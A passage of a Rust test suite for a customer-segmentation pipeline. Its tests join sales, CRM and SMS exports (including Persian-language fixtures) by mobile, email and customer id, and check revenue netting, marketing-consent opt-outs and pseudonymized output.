    assert_eq!(rows["c1"]["multi_item_share"], "0.500", "o1 has two lines");
    assert_eq!(rows["c2"]["distinct_products"], "2");
}

/// The segmentation inputs of curated files, each by the dataset its key names (a sales export
/// also writes its contact links under `curated/customers`).
fn curated_inputs(files: Vec<PathBuf>) -> SegmentInputs {
    let mut input = SegmentInputs {
        sales_files: vec![],
        customers_files: vec![],
        activity_files: vec![],
        refusal_files: vec![],
        previous: Previous::None,
    };
    for f in files {
        let folder = f
            .to_string_lossy()
            .split("/curated/")
            .nth(1)
            .and_then(|rest| Some(rest.split('/').next()?.to_string()));
        if folder.as_deref() == crate::ingest::convert::REFUSALS_PREFIX.strip_prefix("curated/") {
            input.refusal_files.push(f);
            continue;
        }
        let dataset = folder.and_then(|f| crate::schema::Dataset::from_name(&f));
        match dataset.expect("a curated file") {
            crate::schema::Dataset::Sales => input.sales_files.push(f),
            crate::schema::Dataset::Customers => input.customers_files.push(f),
            crate::schema::Dataset::Activity => input.activity_files.push(f),
        }
    }
    input
}

/// The ids of `customers.csv` rows (see [`by_id`]), sorted.
fn sorted_ids(customers: &HashMap<String, HashMap<String, String>>) -> Vec<&str> {
    let mut ids: Vec<&str> = customers.keys().map(String::as_str).collect();
    ids.sort();
    ids
}

/// Segments curated `files` as of 2024-06-30 (k = 2, groups of 2 published) into `dir/out`.
fn segment_curated(dir: &Path, files: Vec<PathBuf>) -> PathBuf {
    let out = dir.join("out");
    let mut params = SegmentParams::new(date("2024-06-30"));
    params.k = Some(2);
    params.min_group_size = 2;
    run(&curated_inputs(files), &params.check().unwrap(), &out).unwrap();
    out
}

/// A shop's orders from four buyers (`C-1` … `C-4`), the fewest a run with k = 2 segments, for
/// tests about the lists' other people.
fn four_buyers(dir: &Path) -> Vec<PathBuf> {
    ingest_csv(
        dir,
        crate::schema::Dataset::Sales,
        "shop.csv",
        "Order Number,Order Date,Customer ID,Amount\n\
         1,2024-06-01,C-1,100\n2,2024-06-02,C-2,50\n3,2024-05-02,C-3,70\n4,2024-04-02,C-4,20\n",
    )
}

/// Four buyers (`5005` … `5008`, `u5@x.example` …) of a shop whose orders give each one's email.
fn four_buyers_with_emails(dir: &Path) -> Vec<PathBuf> {
    ingest_csv(
        dir,
        crate::schema::Dataset::Sales,
        "shop.csv",
        "Order ID,Order Date,Customer ID,Email,Total\n\
         1,2024-05-01,5005,u5@x.example,100\n\
         2,2024-05-02,5006,u6@x.example,100\n\
         3,2024-05-03,5007,u7@x.example,100\n\
         4,2024-05-04,5008,u8@x.example,100\n",
    )
}

/// A JSON order's nested refunds net its buyer's revenue: an order of 100 with 40 refunded (a
/// line of it sent back) leaves 60 and a return rate of 0.4; an order refunded whole, which is
/// also a return by its status, leaves nothing, not less (what came back counts once).
#[test]
fn json_orders_nested_refunds_net_the_buyers_revenue() {
    let dir = tempfile::tempdir().unwrap();
    let order = |id: u32, customer: u32, day: &str, status: &str, items: &str, refunds: &str| {
        format!(
            r#"{{"id": {id}, "name": "{id}", "order_number": {id}, "email": "c{customer}@example.com", "financial_status": "{status}", "created_at": "2024-06-{day}T10:00:00Z", "currency": "EUR", "customer": {{"id": {customer}}}, "line_items": [{items}], "refunds": [{refunds}]}}"#
        )
    };
    let orders = [
        order(
            1,
            701,
            "01",
            "partially_refunded",
            r#"{"id": 11, "sku": "A", "quantity": 1, "price": "60.00"}, {"id": 12, "sku": "B", "quantity": 1, "price": "40.00"}"#,
            r#"{"id": 91, "created_at": "2024-06-05T10:00:00Z", "refund_line_items": [{"line_item_id": 12, "quantity": 1, "subtotal": "40.00"}], "transactions": [{"kind": "refund", "status": "success", "amount": "40.00"}]}"#,
        ),
        order(
            2,
            702,
            "02",
            "refunded",
            r#"{"id": 21, "sku": "A", "quantity": 1, "price": "30.00"}"#,
            r#"{"id": 92, "created_at": "2024-06-04T10:00:00Z", "refund_line_items": [{"line_item_id": 21, "quantity": 1, "subtotal": "30.00"}]}"#,
        ),
        order(
            3,
            703,
            "03",
            "paid",
            r#"{"id": 31, "sku": "A", "quantity": 1, "price": "70.00"}"#,
            "",
        ),
        order(
            4,
            704,
            "04",
            "paid",
            r#"{"id": 41, "sku": "B", "quantity": 1, "price": "20.00"}"#,
            "",
        ),
    ];
    let sales = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Sales,
        "orders.json",
        &format!("{{\"orders\": [{}]}}", orders.join(",\n")),
    );
    let out = segment_curated(dir.path(), sales);
    let rows = by_id(read_csv(&out.join("customers.csv")));
    assert_eq!(sorted_ids(&rows), ["701", "702", "703", "704"]);
    assert_eq!(rows["701"]["monetary"], "60.00");
    assert_eq!(rows["701"]["return_rate"], "0.400");
    assert_eq!(rows["702"]["monetary"], "0.00");
    assert_eq!(rows["703"]["monetary"], "70.00");
}

/// winback.csv's rows as (customer_id, email, phone).
fn winback_rows(out: &Path) -> Vec<[String; 3]> {
    read_csv(&out.join("winback.csv"))
        .into_iter()
        .map(|mut r| ["customer_id", "email", "phone"].map(|k| r.remove(k).unwrap_or_default()))
        .collect()
}

/// No cell of an activation list holds any of `needles` (ids, addresses, a mobile's digits).
fn assert_off_lists(out: &Path, needles: &[&str]) {
    for list in ["winback.csv", "ideal_customers.csv", "lead_scores.csv"] {
        let rows = read_csv(&out.join(list));
        for needle in needles {
            assert!(
                rows.iter().all(|r| r.values().all(|v| !v.contains(needle))),
                "{needle} in {list}"
            );
        }
    }
}

/// Ingests CSV `text` as an upload of `dataset` into `dir`; the curated Parquet files.
fn ingest_csv(dir: &Path, dataset: crate::schema::Dataset, name: &str, text: &str) -> Vec<PathBuf> {
    let folder = dir.join(dataset.name());
    std::fs::create_dir_all(&folder).unwrap();
    let path = folder.join(name);
    std::fs::write(&path, text).unwrap();
    let src = crate::ingest::SourceRef {
        bucket: None,
        key: format!("incoming/{}/{name}", dataset.name()),
        etag: Some("e".into()),
        version_id: None,
        size: text.len() as u64,
    };
    let opts = crate::ingest::IngestOptions {
        dataset: Some(dataset),
        ..Default::default()
    };
    let staging = dir.join(format!("staging-{name}"));
    std::fs::create_dir_all(&staging).unwrap();
    let out = crate::ingest::ingest_file(&path, src, &opts, &staging).unwrap();
    assert_eq!(out.report.rows.rejected, 0, "{name}");
    out.files
        .into_iter()
        .filter(|f| f.key.ends_with(".parquet"))
        .map(|f| f.path)
        .collect()
}

/// An Iranian shop's orders, customer list and SMS log keyed by mobile, each written its own way,
/// are one set of people: the customer list's refusal and the SMS opt-out keep those buyers off
/// every list, the win-back list carries the one who may be contacted under the mobile key with
/// no number in its email column (as for an email key: the id, never an address that is not
/// one), and the BI copy hides the mobile as it hides any id.
#[test]
fn sales_customers_and_activity_keyed_by_mobile_join() {
    let dir = tempfile::tempdir().unwrap();
    let mut sales_csv = String::from("شماره سفارش,نام مشتری,شماره موبایل,تاریخ سفارش,مبلغ (تومان)\n");
    // Two lapsed big spenders (one of whom refused marketing), one lapsed buyer who opted out by
    // SMS, and recent small buyers.
    let rows = [
        ("علی احمدی", "09121111111", "2023-09-01", 900_000),
        ("علی احمدي", "۰۹۱۲ ۱۱۱ ۱۱۱۱", "2023-10-01", 900_000),
        ("زهرا محمدی", "+98 912 222 2222", "2023-09-05", 800_000),
        ("زهرا محمدی", "9122222222", "2023-10-05", 800_000),
        ("رضا کریمی", "0912-333-3333", "2023-09-10", 700_000),
        ("رضا کریمی", "00989123333333", "2023-10-10", 700_000),
        ("مریم", "09124444444", "2024-06-20", 10_000),
        ("سارا", "09125555555", "2024-06-21", 20_000),
        ("نگار", "09126666666", "2024-06-22", 30_000),
    ];
    for (i, (name, mobile, day, amount)) in rows.iter().enumerate() {
        sales_csv.push_str(&format!("{},{name},{mobile},{day},{amount}\n", i + 1));
    }
    let sales = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Sales,
        "basalam.csv",
        &sales_csv,
    );
    let customers = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Customers,
        "customers.csv",
        "نام,موبایل,شهر,خبرنامه\n\
         علی احمدی,+989121111111,تهران,خیر\n\
         زهرا محمدی,۰۹۱۲۲۲۲۲۲۲۲,اصفهان,بله\n",
    );
    let activity = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Activity,
        "sms.csv",
        "Mobile,Event,Timestamp\n0912 333 3333,unsubscribe,2024-01-02 10:00\n",
    );
    let out = dir.path().join("out");
    let mut params = SegmentParams::new(date("2024-06-30"));
    params.k = Some(2);
    params.min_group_size = 2;
    params.pseudonym_key = Some(PseudonymKey(b"k".to_vec()));
    let input = curated_inputs([sales, customers, activity].concat());
    run(&input, &params.check().unwrap(), &out).unwrap();

    let customers = by_id(read_csv(&out.join("customers.csv")));
    assert_eq!(
        sorted_ids(&customers),
        [
            "+989121111111",
            "+989122222222",
            "+989123333333",
            "+989124444444",
            "+989125555555",
            "+989126666666"
        ]
    );
    assert_eq!(customers["+989121111111"]["frequency"], "2");
    assert_eq!(customers["+989121111111"]["marketing_consent"], "false");
    assert_eq!(customers["+989122222222"]["marketing_consent"], "true");
    assert_eq!(customers["+989123333333"]["marketing_consent"], "false");
    let listed = winback_rows(&out);
    // The key is the number to text: the phone column carries it.
    assert_eq!(listed, [["+989122222222", "", "+989122222222"]]);
    for list in ["winback.csv", "ideal_customers.csv", "lead_scores.csv"] {
        for refused in ["+989121111111", "+989123333333"] {
            assert!(
                read_csv(&out.join(list))
                    .iter()
                    .all(|r| r.values().all(|v| !v.contains(&refused[3..]))),
                "{refused} in {list}"
            );
        }
    }
    // The BI copy carries the mobiles' pseudonyms, as it would an email's.
    let pseudonyms = crate::privacy::Pseudonymizer::new(b"k").unwrap();
    let mut expected: Vec<String> = sorted_ids(&customers)
        .iter()
        .map(|id| pseudonyms.pseudonym(id))
        .collect();
    expected.sort();
    let file = std::fs::File::open(out.join("customers.parquet")).unwrap();
    let mut written = Vec::new();
    for batch in ParquetRecordBatchReaderBuilder::try_new(file)
        .unwrap()
        .build()
        .unwrap()
    {
        let batch = batch.unwrap();
        let col = batch.column_by_name("customer_id").unwrap();
        let col = col.as_any().downcast_ref::<StringArray>().unwrap();
        written.extend(col.iter().flatten().map(str::to_string));
    }
    written.sort();
    assert_eq!(written, expected);
}

/// A CRM's customer list keyed by customer number with a mobile column, and a shop's orders and an
/// SMS log keyed by the mobile alone: each buyer is the CRM's customer, with its age, city and
/// consent, under its number. A mobile two numbers share (a family's) names neither: the
/// purchases stay under the mobile, both records fold into that buyer, and either's refusal
/// keeps it off the lists. Lists carry the mobile to text in `phone`.
#[test]
fn a_customer_list_keyed_by_number_joins_sales_keyed_by_mobile() {
    let dir = tempfile::tempdir().unwrap();
    let mut sales_csv = String::from("شماره سفارش,شماره موبایل,تاریخ سفارش,مبلغ (تومان)\n");
    let rows = [
        ("09121111111", "2023-09-01", 900_000),
        ("۰۹۱۲ ۱۱۱ ۱۱۱۱", "2023-10-01", 900_000),
        ("+98 912 222 2222", "2023-09-05", 800_000),
        ("9122222222", "2023-10-05", 800_000),
        ("0912-333-3333", "2023-09-10", 700_000),
        ("00989123333333", "2023-10-10", 700_000),
        ("09127777777", "2023-09-12", 750_000),
        ("09127777777", "2023-10-12", 750_000),
        ("09124444444", "2024-06-20", 10_000),
        ("09125555555", "2024-06-21", 20_000),
        ("09126666666", "2024-06-22", 30_000),
    ];
    for (i, (mobile, day, amount)) in rows.iter().enumerate() {
        sales_csv.push_str(&format!("{},{mobile},{day},{amount}\n", i + 1));
    }
    let sales = ingest_csv(dir.path(), crate::schema::Dataset::Sales, "shop.csv", &sales_csv);
    let customers = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Customers,
        "crm.csv",
        "کد مشتری,موبایل,سن,شهر,خبرنامه\n\
         C-101,09121111111,35,تهران,خیر\n\
         C-102,0912 222 2222,28,اصفهان,بله\n\
         C-103,+98 912 333 3333,41,شیراز,بله\n\
         C-104,09127777777,50,تبریز,بله\n\
         C-105,۰۹۱۲۷۷۷۷۷۷۷,19,تبریز,خیر\n",
    );
    let activity = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Activity,
        "sms.csv",
        "Mobile,Event,Timestamp\n\
         0912 333 3333,unsubscribe,2024-01-02 10:00\n\
         0912 222 2222,download,2024-06-02 10:00\n",
    );
    let out = segment_curated(dir.path(), [sales, customers, activity].concat());

    let customers = by_id(read_csv(&out.join("customers.csv")));
    assert_eq!(
        sorted_ids(&customers),
        [
            "+989124444444",
            "+989125555555",
            "+989126666666",
            "+989127777777",
            "C-101",
            "C-102",
            "C-103"
        ]
    );
    let c = |id: &str, col: &str| customers[id][col].clone();
    assert_eq!(
        (
            c("C-102", "frequency"),
            c("C-102", "monetary"),
            c("C-102", "age_band")
        ),
        (
            "2".into(),
            "1600000.00".into(),
            crate::segment::features::AGE_BANDS[1].into()
        )
    );
    assert_eq!(c("C-101", "marketing_consent"), "false");
    assert_eq!(c("C-102", "marketing_consent"), "true");
    // Unsubscribed by SMS under the mobile.
    assert_eq!(c("C-103", "marketing_consent"), "false");
    // C-105's refusal holds for the mobile it shares with C-104.
    assert_eq!(c("+989127777777", "marketing_consent"), "false");
    assert_eq!(c("+989127777777", "frequency"), "2");

    let winback = read_csv(&out.join("winback.csv"));
    let listed: Vec<(&str, &str)> = winback
        .iter()
        .map(|r| (r["customer_id"].as_str(), r["phone"].as_str()))
        .collect();
    assert_eq!(listed, [("C-102", "+989122222222")]);
    let ideal = read_csv(&out.join("ideal_customers.csv"));
    let c102 = ideal.iter().find(|r| r["id"] == "C-102").expect("C-102 listed");
    assert_eq!(c102["phone"], "+989122222222");
    // The contact the SMS log keys by C-102's mobile is C-102, not a lead of its own.
    assert!(ideal.iter().all(|r| r["kind"] != "lead"), "{ideal:?}");
    let leads = read_csv(&out.join("lead_scores.csv"));
    let contacts: Vec<(&str, &str)> = leads
        .iter()
        .map(|r| (r["contact_id"].as_str(), r["phone"].as_str()))
        .collect();
    assert_eq!(contacts, [("+989122222222", "+989122222222")]);
    assert_off_lists(
        &out,
        &[
            "C-101", "C-103", "C-104", "C-105", "1111111", "3333333", "7777777",
        ],
    );
}

/// A shop's orders keyed by customer number that give each buyer's email and mobile: the same
/// person checking out as a guest (customer 0, keyed by the email) or in a second shop keyed by
/// the mobile is that customer; an unsubscribe in the newsletter tool (by email) or the SMS log
/// (by mobile) keeps them off every list; the lists carry the addresses the orders gave.
#[test]
fn a_sales_exports_own_emails_and_mobiles_link_its_customers() {
    let dir = tempfile::tempdir().unwrap();
    let sales = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Sales,
        "woo.csv",
        "Order Number,Order Date,Customer User ID,Billing Email,Billing Phone,Order Total\n\
         1,2023-09-01,30,c30@x.com,09121000030,900\n\
         2,2023-10-01,0,c30@x.com,,900\n\
         3,2023-09-02,31,c31@x.com,09121000031,800\n\
         4,2023-10-02,32,c32@x.com,09121000032,800\n\
         8,2023-09-04,0,ho@x.com,09121000019,800\n\
         9,2023-10-04,0,ho@x.com,,800\n\
         5,2024-06-20,40,c40@x.com,,10\n\
         6,2024-06-21,41,c41@x.com,,20\n\
         7,2024-06-22,42,c42@x.com,,30\n",
    );
    let shop = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Sales,
        "insta.csv",
        "شماره سفارش,تاریخ,شماره موبایل,مبلغ\n\
         i1,2023-10-05,۰۹۱۲ ۱۰۰ ۰۰۳۲,800\n",
    );
    let newsletter = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Activity,
        "newsletter.csv",
        "Email,Event,Timestamp\nc31@x.com,unsubscribe,2024-01-02 10:00\n",
    );
    let sms = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Activity,
        "sms.csv",
        "Mobile,Event,Timestamp\n\
         09121000030,STOP,2024-01-03 10:00\n\
         09121000019,STOP,2024-01-04 10:00\n",
    );
    let out = segment_curated(dir.path(), [sales, shop, newsletter, sms].concat());

    let customers = by_id(read_csv(&out.join("customers.csv")));
    assert_eq!(
        sorted_ids(&customers),
        ["30", "31", "32", "40", "41", "42", "ho@x.com"]
    );
    let c = |id: &str, col: &str| customers[id][col].clone();
    // The guest checkout and the second shop's order are theirs.
    assert_eq!(
        (c("30", "frequency"), c("30", "monetary")),
        ("2".into(), "1800.00".into())
    );
    assert_eq!(
        (c("32", "frequency"), c("32", "monetary")),
        ("2".into(), "1600.00".into())
    );
    assert_eq!(c("30", "marketing_consent"), "false");
    assert_eq!(c("31", "marketing_consent"), "false");
    assert_eq!(c("32", "marketing_consent"), "");
    // A guest known by its email opted out by SMS from the mobile its order gave.
    assert_eq!(c("ho@x.com", "marketing_consent"), "false");
    let listed = winback_rows(&out);
    assert_eq!(listed, [["32", "c32@x.com", "+989121000032"]]);
    assert_off_lists(&out, &["c30@", "c31@", "ho@", "1000030", "1000031", "1000019"]);
    // The manifest counts the links apart from customer lists' rows (there are none here).
    let manifest: serde_json::Value =
        serde_json::from_slice(&std::fs::read(out.join("manifest.json")).unwrap()).unwrap();
    assert_eq!(manifest["inputs"]["customers_rows_read"], 0);
    assert_eq!(manifest["inputs"]["customer_links_read"], 7);
}

/// Shopify's orders export says at each order whether the buyer accepts marketing (on the
/// order's first line only). A buyer who said no is kept off every list, as by a customer list's
/// refusal, though the export keys buyers by their email and gives no other address.
#[test]
fn a_no_to_marketing_at_checkout_keeps_the_buyer_off_the_lists() {
    let dir = tempfile::tempdir().unwrap();
    let sales = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Sales,
        "orders_export.csv",
        "Name,Email,Financial Status,Accepts Marketing,Created at,Lineitem quantity,Lineitem name,Lineitem price,Lineitem sku\n\
         #1001,a@x.com,paid,no,2023-09-01 10:00:00 +0000,1,Mug,40,M-1\n\
         #1001,a@x.com,,,2023-09-01 10:00:00 +0000,1,Tea,10,T-1\n\
         #1002,b@x.com,paid,yes,2023-09-02 10:00:00 +0000,1,Mug,40,M-1\n\
         #1003,c@x.com,paid,yes,2023-09-03 10:00:00 +0000,1,Mug,40,M-1\n\
         #1004,c@x.com,paid,no,2023-09-04 10:00:00 +0000,1,Mug,40,M-1\n\
         #1005,d@x.com,paid,,2023-09-05 10:00:00 +0000,1,Mug,40,M-1\n\
         #1006,e@x.com,paid,yes,2024-06-20 10:00:00 +0000,1,Tea,10,T-1\n",
    );
    let out = segment_curated(dir.path(), sales);
    let customers = by_id(read_csv(&out.join("customers.csv")));
    let consent = |id: &str| customers[id]["marketing_consent"].clone();
    assert_eq!(consent("a@x.com"), "false");
    assert_eq!(consent("b@x.com"), "true");
    // A "no" at any order stands: a stale "yes" must never undo a withdrawal.
    assert_eq!(consent("c@x.com"), "false");
    assert_eq!(consent("d@x.com"), "");
    assert_eq!(customers["a@x.com"]["monetary"], "50.00");
    let winback = read_csv(&out.join("winback.csv"));
    let listed: Vec<&str> = winback.iter().map(|r| r["customer_id"].as_str()).collect();
    assert_eq!(listed, ["b@x.com", "d@x.com"]);
    assert_off_lists(&out, &["a@x.com", "c@x.com"]);
}

/// A returns list that names the order and not its buyer: the return is the customer's who
/// placed the order, not a guest's.
#[test]
fn a_return_naming_only_its_order_is_the_orders_buyers() {
    let dir = tempfile::tempdir().unwrap();
    let mut sales = four_buyers(dir.path());
    sales.extend(ingest_csv(
        dir.path(),
        crate::schema::Dataset::Sales,
        "Returns 2024.csv",
        "Return Number,Order Number,Date,SKU,Quantity,Amount\n\
         R-1,1,2024-06-05,P-1,1,40\n\
         R-2,99,2024-06-06,P-1,1,5\n",
    ));
    let out = segment_curated(dir.path(), sales);
    let customers = by_id(read_csv(&out.join("customers.csv")));
    assert_eq!(customers["C-1"]["monetary"], "60.00");
    assert_eq!(customers["C-1"]["return_rate"], "0.400");
    assert_eq!(customers["C-1"]["frequency"], "1");
    let manifest: serde_json::Value =
        serde_json::from_slice(&std::fs::read(out.join("manifest.json")).unwrap()).unwrap();
    assert_eq!(manifest["inputs"]["returns_matched_to_orders"], 1);
    // Order 99 is no one's here: its return stays a guest's.
    assert_eq!(manifest["inputs"]["guest_rows"], 1);
}

/// An Iranian shop's English-language exports (a WooCommerce order export, an SMS panel's list)
/// may show nothing Iranian, so their bare mobiles are keyed without a country
/// (`tel:9121000023`); the customer list knows the same digits as Iranian mobiles. They are one
/// person: the orders are the listed customer's, and a refusal or opt-out under either key keeps
/// them off every list.
#[test]
fn a_mobile_keyed_without_its_country_meets_its_iranian_key() {
    let dir = tempfile::tempdir().unwrap();
    let customers = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Customers,
        "crm.csv",
        "کد مشتری,موبایل,خبرنامه\n\
         C-20,09121000020,بله\n\
         C-21,09121000021,بله\n\
         C-23,09121000023,خیر\n",
    );
    let sales = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Sales,
        "woo.csv",
        "Order Number,Order Date,Billing Phone,Order Total\n\
         1,2023-09-01,9121000020,900\n\
         2,2023-09-02,9121000021,800\n\
         3,2023-09-03,9121000023,800\n\
         4,2024-06-20,9121000040,10\n\
         5,2024-06-21,9121000041,20\n",
    );
    let sms = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Activity,
        "sms.csv",
        "Mobile,Event,Timestamp\n9121000020,unsubscribe,2024-01-03 10:00\n",
    );
    let out = segment_curated(dir.path(), [customers, sales, sms].concat());

    let customers = by_id(read_csv(&out.join("customers.csv")));
    assert_eq!(
        sorted_ids(&customers),
        ["C-20", "C-21", "C-23", "tel:9121000040", "tel:9121000041"]
    );
    assert_eq!(customers["C-23"]["frequency"], "1");
    assert_eq!(customers["C-20"]["marketing_consent"], "false");
    assert_eq!(customers["C-23"]["marketing_consent"], "false");
    let winback = read_csv(&out.join("winback.csv"));
    let listed: Vec<&str> = winback.iter().map(|r| r["customer_id"].as_str()).collect();
    assert_eq!(listed, ["C-21"]);
    assert_off_lists(&out, &["C-20", "C-23", "1000020", "1000023"]);
}

/// A CRM's opt-out column (Salesforce's "Email Opt Out") and a Shopify export's SMS refusal
/// beside its email consent keep those customers off every list; the others stay on.
#[test]
fn an_opt_out_or_any_refusing_consent_column_keeps_customers_off_the_lists() {
    let dir = tempfile::tempdir().unwrap();
    // Four lapsed big spenders, three recent small ones.
    let sales = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Sales,
        "shop.csv",
        "Order Number,Order Date,Customer ID,Order Total\n\
         1,2023-09-01,C-1,900\n2,2023-09-02,C-2,900\n3,2023-09-03,C-3,900\n4,2023-09-04,C-4,900\n\
         5,2024-06-20,40,10\n6,2024-06-21,41,20\n7,2024-06-22,42,30\n",
    );
    let salesforce = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Customers,
        "sf_contacts.csv",
        "Customer ID,Email,Email Opt Out\nC-1,c1@x.com,true\nC-2,c2@x.com,false\n",
    );
    let shopify = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Customers,
        "customers_export.csv",
        "Customer ID,Email,Phone,Accepts Email Marketing,Accepts SMS Marketing\n\
         C-3,c3@x.com,+14155550303,yes,no\n\
         C-4,c4@x.com,+14155550304,yes,yes\n",
    );
    let out = segment_curated(dir.path(), [sales, salesforce, shopify].concat());
    let customers = by_id(read_csv(&out.join("customers.csv")));
    assert_eq!(customers["C-1"]["marketing_consent"], "false");
    assert_eq!(customers["C-2"]["marketing_consent"], "");
    assert_eq!(customers["C-3"]["marketing_consent"], "false");
    assert_eq!(customers["C-4"]["marketing_consent"], "true");
    assert_off_lists(&out, &["C-1", "c1@", "C-3", "c3@", "5550303"]);
    let ideal: Vec<String> = read_csv(&out.join("ideal_customers.csv"))
        .iter()
        .map(|r| r["id"].clone())
        .collect();
    assert!(
        ideal.contains(&"C-2".to_string()) && ideal.contains(&"C-4".to_string()),
        "{ideal:?}"
    );
}

/// An activity export that gives its contacts' consent beside their events (Salesforce's
/// campaign members with "Email Opt Out", HubSpot's form submissions with "Unsubscribed from all
/// email"): the events score, but an opted-out contact is on no list; a contact whose column
/// says no opt-out is listed.
#[test]
fn an_opt_out_column_in_an_activity_export_keeps_contacts_off_the_lists() {
    let dir = tempfile::tempdir().unwrap();
    let sales = four_buyers(dir.path());
    let salesforce = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Activity,
        "sf_members.csv",
        "Campaign Name,Lead ID,Contact ID,Title,Email,Member Status,Created Date,Email Opt Out\n\
         Webinar Q2,00Q1,,VP Marketing,ann@corp.example,Responded,2024-06-03,1\n\
         Webinar Q2,00Q2,,VP Marketing,bob@corp.example,Responded,2024-06-03,0\n",
    );
    let hubspot = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Activity,
        "hubspot_form.csv",
        "Contact ID,Email,Activity Type,Timestamp,Page URL,Unsubscribed from all email\n\
         H-1,hana@corp.example,Form Submission,2024-06-01 10:00,/demo,true\n\
         H-2,hugo@corp.example,Form Submission,2024-06-01 11:00,/demo,false\n",
    );
    let out = segment_curated(dir.path(), [sales, salesforce, hubspot].concat());
    assert_off_lists(&out, &["00Q1", "ann@", "H-1", "hana@"]);
    let scored: Vec<String> = read_csv(&out.join("lead_scores.csv"))
        .iter()
        .map(|r| r["contact_id"].clone())
        .collect();
    assert!(
        scored.contains(&"00Q2".to_string()) && scored.contains(&"H-2".to_string()),
        "{scored:?}"
    );
}

/// A prospect the CRM keys by number and the newsletter tool by email is one person, once,
/// under the number (so the lists could offer it once); a refusal in either record holds.
#[test]
fn a_prospect_keyed_by_number_and_by_email_is_listed_once() {
    let dir = tempfile::tempdir().unwrap();
    let sales = four_buyers(dir.path());
    let crm = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Customers,
        "crm.csv",
        "Customer ID,Email,Phone,Accepts Marketing,City\n\
         K300,pros300@x.com,,yes,Shiraz\n\
         K301,pros301@x.com,,yes,\n\
         C-1,fam@x.com,,yes,\n\
         C-2,fam@x.com,,yes,\n\
         K302,fam@x.com,,yes,\n",
    );
    let newsletter = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Customers,
        "newsletter.csv",
        "Email,Subscribed\npros300@x.com,yes\npros301@x.com,no\nfam@x.com,yes\n",
    );
    let out = segment_curated(dir.path(), [sales, crm, newsletter].concat());
    let customers = by_id(read_csv(&out.join("customers.csv")));
    // A family's address, two buyers' and a prospect's, names none of them.
    assert_eq!(
        sorted_ids(&customers),
        ["C-1", "C-2", "C-3", "C-4", "K300", "K301", "K302", "fam@x.com"]
    );
    assert_eq!(customers["K300"]["marketing_consent"], "true");
    assert_eq!(customers["K301"]["marketing_consent"], "false");
    assert_off_lists(&out, &["K301", "pros301@"]);
}

/// A newsletter list keyed by email only is another export of the customer number with that
/// email: its attributes reach that customer, each from the last row read that has one (files are
/// read in path order), while an email two numbers share gives neither anything.
#[test]
fn an_email_lists_attributes_reach_the_number_with_that_email() {
    let dir = tempfile::tempdir().unwrap();
    let sales = four_buyers(dir.path());
    let customers =
        |name: &str, text: &str| ingest_csv(dir.path(), crate::schema::Dataset::Customers, name, text);
    // Read first: the shop list's job title, read later, stands over it.
    let early = customers("a_early.csv", "Email,Gender,Job Title\nq4@x.example,Male,Pilot\n");
    let shop = customers(
        "b_shop.csv",
        "Customer ID,Email,City,Job Title\n\
         C-1,q1@x.example,München,\n\
         C-2,fam@x.example,,\n\
         C-3,fam@x.example,,\n\
         C-4,q4@x.example,,Engineer\n\
         K300,pros300@x.example,,Engineer\n",
    );
    let newsletter = customers(
        "m_newsletter.csv",
        "Email Address,Job Title,Gender,Date of Birth\n\
         Q1@x.example,Architect,Female,1980-01-05\n\
         fam@x.example,Nurse,Male,1990-01-05\n\
         pros300@x.example,Architect,,\n",
    );
    // Read last, without a job title: the newsletter's, read after the shop list's, stands.
    let thin = customers(
        "z_thin.csv",
        "Customer ID,Email,City\nK300,pros300@x.example,Shiraz\n",
    );
    let out = segment_curated(dir.path(), [sales, early, shop, newsletter, thin].concat());
    let customers = by_id(read_csv(&out.join("customers.csv")));
    let attrs = |id: &str| {
        let c = &customers[id];
        [&c["job_title"], &c["gender"], &c["age_band"], &c["main_city"]].map(String::as_str)
    };
    assert_eq!(attrs("C-1"), ["Architect", "female", "35-44", "München"]);
    assert_eq!(attrs("C-4"), ["Engineer", "male", "", ""]);
    assert_eq!(attrs("K300"), ["Architect", "", "", "Shiraz"]);
    // The family's address names neither number: its record stays its own.
    assert_eq!(attrs("C-2"), ["", "", "", ""]);
    assert_eq!(attrs("C-3"), ["", "", "", ""]);
    assert_eq!(attrs("fam@x.example"), ["Nurse", "male", "25-34", ""]);
    assert_eq!(
        sorted_ids(&customers),
        ["C-1", "C-2", "C-3", "C-4", "K300", "fam@x.example"]
    );
}

/// The CRM keeps its own record of a buyer (HubSpot's `Record ID`) with the email the orders
/// give: a second registration. The buyer's only other record is the orders' link of number and
/// email, which says nothing of the person, so the CRM's attributes are the buyer's; where the
/// buyer's own list describes them, theirs stand.
#[test]
fn a_second_registration_describes_a_buyer_only_the_orders_know() {
    let dir = tempfile::tempdir().unwrap();
    let sales = four_buyers_with_emails(dir.path());
    let own = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Customers,
        "a_shop_customers.csv",
        "Customer ID,Email,Job Title\n\
         5006,u6@x.example,Engineer\n",
    );
    let crm = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Customers,
        "hubspot.csv",
        "Record ID,Email,Job Title,Gender,Date of Birth\n\
         90005,u5@x.example,CEO,female,1980-01-01\n\
         90006,u6@x.example,CTO,male,1970-01-01\n",
    );
    let out = segment_curated(dir.path(), [sales, own, crm].concat());
    let customers = by_id(read_csv(&out.join("customers.csv")));
    let attrs = |id: &str| {
        let c = &customers[id];
        [&c["job_title"], &c["gender"], &c["age_band"]].map(String::as_str)
    };
    assert_eq!(attrs("5005"), ["CEO", "female", "35-44"]);
    assert_eq!(attrs("5006"), ["Engineer", "", ""]);
    assert_eq!(sorted_ids(&customers), ["5005", "5006", "5007", "5008"]);
}

